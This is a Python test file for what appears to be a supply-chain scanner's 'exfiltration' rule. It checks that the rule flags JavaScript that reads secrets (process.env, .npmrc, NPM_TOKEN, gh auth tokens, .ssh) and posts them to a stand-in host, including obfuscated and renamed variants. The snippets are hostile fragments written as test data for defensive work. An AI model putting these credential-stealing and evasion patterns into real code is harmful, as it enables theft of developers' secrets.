import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import QUIET, found, found_in

RULE = "exfiltration"
SEND = "fetch('https://a.example', { method: 'POST', body });"


@pytest.mark.parametrize(
    ("take", "severity"),
    [
        ("const body = fs.readFileSync(home + '/.npmrc');", Severity.CRITICAL),
        ("const body = JSON.stringify(process.env);", Severity.CRITICAL),
        ("const body = fs.readFileSync(`/proc/${id}/mem`);", Severity.CRITICAL),
        ("const body = process.env.NPM_TOKEN;", Severity.HIGH),
        ("const body = execSync('gh auth token');", Severity.CRITICAL),
    ],
)
def test_taking_and_sending_in_the_same_new_code(take: str, severity: Severity) -> None:
    (one,) = found_in(f"{take}\n\n{SEND}\n", rule=RULE)
    assert (one.severity, one.path, one.line) == (severity, "index.js", 3)
    assert "index.js:1" in one.detail
    assert found_in(f"/* {take} */\n{SEND}", rule=RULE) == []
    assert found_in(f"{take}\n// {SEND}", rule=RULE) == []
    assert found_in(f"{take}\n{SEND}", "index.d.ts", rule=RULE) == []


def test_the_severity_does_not_depend_on_a_baseline() -> None:
    code = f"const body = JSON.stringify(process.env);\n{SEND}"
    assert [one.severity for one in found(None, {"index.js": code}, rule=RULE)] == [
        Severity.CRITICAL
    ]


def test_what_was_there_before_is_not_told_again() -> None:
    code = f"const body = JSON.stringify(process.env);\n{SEND}\n"
    assert found({"index.js": code}, {"index.js": f"exports.b = 1;\n{code}"}, rule=RULE) == []


def test_far_apart_in_a_bundle_is_not_the_same_code() -> None:
    far = "exports.value = 1;\n" * 6_000
    code = f"const body = JSON.stringify(process.env);\n{far}{SEND}\n"
    assert found_in(code, rule=RULE) == []


def test_in_two_new_files_of_a_package_that_never_sent() -> None:
    files = {"a.js": "module.exports = JSON.stringify(process.env);\n", "b.js": SEND}
    (one,) = found(QUIET, {**QUIET, **files}, rule=RULE)
    assert (one.severity, one.path) == (Severity.HIGH, "a.js")
    assert "b.js:1" in one.detail


def test_a_module_whose_name_is_spelled_sends_too() -> None:
    code = "const r = require('ht' + 'tps').request;\nr(JSON.stringify(process.env));"
    assert found_in(code, rule=RULE)


@pytest.mark.parametrize(
    ("take", "severity"),
    [
        ("const body = { ...process.env };", Severity.HIGH),
        ("const body = Object.assign({}, process.env);", Severity.HIGH),
        ("const body = JSON.stringify({ ...process.env, at: 1 });", Severity.CRITICAL),
    ],
)
def test_a_copy_counts_less_unless_it_is_handed_on(take: str, severity: Severity) -> None:
    (one,) = found_in(f"{take}\n{SEND}\n", rule=RULE)
    assert one.severity == severity


@pytest.mark.parametrize(
    "code",
    [
        "Object.keys(process.env).filter(key => /^debug_/i.test(key)).map(b);",
        "Object.keys(process.env).filter(function (key) { return /^debug_/i.test(key); });",
    ],
)
def test_variables_of_one_harmless_prefix_are_not_all(code: str) -> None:
    assert found_in(f"{code}\n{SEND}\n", rule=RULE) == []
    told = found_in(f"{code.replace('debug', 'npm')}\n{SEND}\n", rule=RULE)
    assert [one.severity for one in told] == [Severity.CRITICAL]


def test_a_path_that_is_resolved_sends_nothing() -> None:
    code = "const body = JSON.stringify(process.env);\nconst dns = require('./dns');\n"
    assert found_in(f"{code}path.resolve(body);", rule=RULE) == []
    assert found_in(f"{code}dns.resolve(body);", rule=RULE)


@pytest.mark.parametrize(
    "code",
    [
        "import { env } from 'node:process';\nsend(JSON.stringify(env));",
        "import { env as e } from 'process';\nsend(JSON.stringify(e));",
        "const { env: e } = require('process');\nsend(Object.entries(e));",
        "const p = process;\nsend(JSON.stringify(p.env));",
        "import p from 'node:process';\nsend(JSON.stringify(p.env));",
        "send(JSON.stringify(process\n  .env));",
        "send(JSON.stringify(process?.env));",
        "send(Reflect.get(process, 'env'));",
    ],
)
def test_the_environment_under_another_name(code: str) -> None:
    (one,) = found_in(f"{code}\n{SEND}\n", rule=RULE)
    assert one.severity == Severity.CRITICAL
    assert found_in(f"/* {code} */\n{SEND}\n", rule=RULE) == []


@pytest.mark.parametrize(
    "code",
    ["const p = process;\np.exit(p.env.CODE);", "import { env } from 'process';\nrun(env.CODE);"],
)
def test_one_variable_under_another_name_is_not_all(code: str) -> None:
    assert found_in(f"{code}\n{SEND}\n", rule=RULE) == []


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        ("readFileSync(home + '/.npm' + 'rc');", Severity.CRITICAL),
        ("readFileSync(join(home, `.${'npmrc'}`));", Severity.CRITICAL),
        ("readFileSync(process.env.npm_config_userconfig);", Severity.CRITICAL),
        ("readdirSync(home).filter(one => /^\\.npmrc$|^\\.ssh$/.test(one));", Severity.CRITICAL),
        ("readFileSync(join(os.homedir(), name));", Severity.HIGH),
        ("const h = process.env.HOME; readdirSync(h);", Severity.HIGH),
    ],
)
def test_files_with_credentials_that_are_not_named_plainly(code: str, severity: Severity) -> None:
    (one,) = found_in(f"{code}\n{SEND}\n", rule=RULE)
    assert one.severity == severity
    assert found_in(f"/* {code} */\n{SEND}\n", rule=RULE) == []


@pytest.mark.parametrize(
    "send",
    [
        "const send = globalThis.fetch;\nsend(address, body);",
        "const send = fetch;\nsend(address, body);",
        "const { fetch: send } = globalThis;\nsend(address, body);",
        "fetch?.(address, body);",
        "fetch.call(null, address, body);",
        "Reflect.apply(fetch, null, [address, body]);",
    ],
)
def test_sending_in_another_manner(send: str) -> None:
    code = f"const body = fs.readFileSync(home + '/.npmrc');\n{send}\n"
    assert [one.severity for one in found_in(code, rule=RULE)] == [Severity.CRITICAL]


def test_many_calls_before_it_hide_nothing() -> None:
    client = "".join(
        f"exports.get{n} = (q) => fetch('https://a.example/{n}');\n" for n in range(400)
    )
    far = "exports.value = 1;\n" * 6_000
    code = f"{client}{far}const body = fs.readFileSync(home + '/.npmrc');\n{SEND}\n"
    (one,) = found_in(code, rule=RULE)
    assert (one.severity, one.line) == (Severity.CRITICAL, 6_402)


@pytest.mark.parametrize("path", ["lib/a.vue", "lib/a.svelte"])
def test_components_are_code(path: str) -> None:
    code = f"<script>\nconst body = JSON.stringify(process.env);\n{SEND}\n</script>\n"
    (one,) = found_in(code, path, rule=RULE)
    assert (one.severity, one.path, one.line) == (Severity.CRITICAL, path, 3)
    assert found_in("<p>Call fetch(address) yourself.</p>", path, rule=RULE) == []
